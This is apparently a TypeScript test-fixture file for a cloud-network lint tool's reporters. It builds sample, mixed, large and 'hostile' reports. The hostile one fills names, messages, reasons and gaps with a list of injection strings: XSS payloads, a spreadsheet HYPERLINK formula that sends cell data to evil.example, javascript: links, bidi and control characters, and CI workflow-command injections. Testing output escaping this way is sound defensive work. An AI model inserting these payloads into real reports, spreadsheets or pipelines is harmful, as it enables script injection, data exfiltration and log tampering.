/** Lint runs that reporters are tried on: the sample estate, and names that mean harm. */
import type { LintRun } from '#app/reporters/reporter.ts';
import { analyze, type Report, withBaseline } from '#app/report.ts';
import { entryOf } from '#app/rules/baseline.ts';
import { rules } from '#app/rules/index.gen.ts';
import type { Finding } from '#app/rules/rule.ts';
import { sampleEstate } from '#app/world/sample.ts';
import { World } from '#app/world/world.ts';

export const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\'quoted\' & "double" <b>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+SUM(1)|cmd',
  '@import',
  '\t=1+1',
  '-2+3',
  'pipe | pipe `code` *bold* _it_ [link](javascript:alert(1)) ![x](http://evil.example/x.png)',
  'https://evil.example/?q=1 www.evil.example mail@evil.example',
  '# heading\n- item\r\n> quote',
  '\u202eevil\u202c \u2066x\u2069 \u200fy',
  'nul\u0000bell\u0007esc\u001b[31mred del\u007f c1\u009b31m',
  ']]><!-- --> <?xml ?> &amp; &#60;b&#62;',
  '::error::boo',
  'x\n::error title=boo::boo\n::add-mask::vpc',
  'a ::set-output name=a::b',
  '##[error]boo ##[group]x ##vso[task.setvariable variable=a]b ##teamcity[x]',
  '</details></summary></svg></style></button>',
  'lone \ud800 surrogate',
  `${'long '.repeat(820)}end`,
  '%0A%0D%25 {0} {1} ${x} {{y}}',
];

/** The run of a report, as `peerless lint` makes it with its defaults. */
export const runOf = (report: Report, part: Partial<LintRun> = {}): LintRun => ({
  report,
  version: '1.2.3',
  source: { title: 'estate.json', uri: 'estate.json', locations: new Map() },
  ran: new Set(rules.map((rule) => rule.id)),
  fails: (finding) => finding.severity === 'error' && finding.sure,
  gapsFail: report.gaps.length > 0,
  look: {},
  ...part,
});

export const sample = (): Report => analyze(sampleEstate().snapshot());

/** The sample estate with a finding suppressed, one in a baseline, one that is unsure and a suppression that hides nothing. */
export function mixed(): Report {
  const report = analyze(sampleEstate().snapshot(), {
    suppress: [
      { rule: 'peering-one-way', resource: '*', reason: 'one-way on purpose: NET-231' },
      { rule: 'peering-no-routes', resource: 'nothing-*', reason: 'gone' },
    ],
  });
  const [first] = report.findings;
  const known = withBaseline(report, [entryOf(first!)]);
  const findings = known.findings.map((f, i) => (i === 1 ? { ...f, sure: false } : f));
  return { ...known, findings };
}

/** Every hostile text as a name, as the words of a finding, of a place, of a gap and of a reason. */
export function hostile(): Report {
  const world = new World();
  const at = world.region();
  const vpcs = HOSTILE.map((name, i) => {
    const vpc = at.vpc(`v${i}`, `10.${i}.0.0/16`);
    const item = world.items.find((x) => x.id === vpc.id)!;
    const made = item.item;
    (item as { item: () => Record<string, unknown> }).item = () => ({
      ...made(),
      Tags: [{ Key: 'Name', Value: name }],
    });
    return vpc;
  });
  vpcs.forEach((vpc, i) => world.peer(vpc, vpcs[(i + 1) % vpcs.length]!, { name: HOSTILE[i]! }));
  const report = analyze(world.snapshot(), { extends: 'none' });
  const findings = HOSTILE.map((text, i): Finding => {
    const vpc = vpcs[i]!.id;
    return {
      rule: 'peering-one-way',
      severity: (['error', 'warning', 'info'] as const)[i % 3]!,
      sure: i % 5 !== 0,
      message: text,
      resources: [vpc],
      path: [vpc, vpcs[0]!.id],
      places: [{ resource: vpc, detail: text }],
      data: {},
      gaps: [],
      fingerprint: i.toString(16).padStart(16, '0'),
    };
  });
  const suppressed = findings.slice(0, 6).map((finding, i) => ({
    finding: { ...finding, fingerprint: `f${finding.fingerprint.slice(1)}` },
    reason: HOSTILE[i]!,
    by: 'config' as const,
  }));
  return {
    ...report,
    findings,
    suppressed,
    notRun: [{ rule: 'route-blackhole', why: HOSTILE[8]! }],
    suppressions: {
      unused: HOSTILE.map((text) => ({
        rule: text,
        resource: text,
        reason: text,
        by: 'config' as const,
        why: text,
      })),
      expired: [],
    },
    gaps: HOSTILE.map((message, i) => ({
      id: `g${i}`,
      kind: 'call' as const,
      failure: 'refused' as const,
      account: '111111111111',
      region: 'us-east-1',
      call: 'ec2:DescribeVpcs',
      hides: ['vpc' as const],
      subject: undefined,
      message,
    })),
  };
}

/** As many findings of one severity, each with as many places, as asked for. */
export function many(findings: number, places: number): Report {
  const world = new World();
  const vpc = world.region().vpc('a', '10.0.0.0/16');
  const report = analyze(world.snapshot(), { extends: 'none' });
  return {
    ...report,
    findings: Array.from({ length: findings }, (_, i) => ({
      rule: 'route-blackhole',
      severity: 'error' as const,
      sure: true,
      message: `Finding ${i} of many.`,
      resources: [vpc.id],
      path: [],
      places: Array.from({ length: places }, (__, p) => ({
        resource: vpc.id,
        detail: `10.0.${p}.0/24`,
      })),
      data: {},
      gaps: [],
      fingerprint: i.toString(16).padStart(16, '0'),
    })),
  };
}
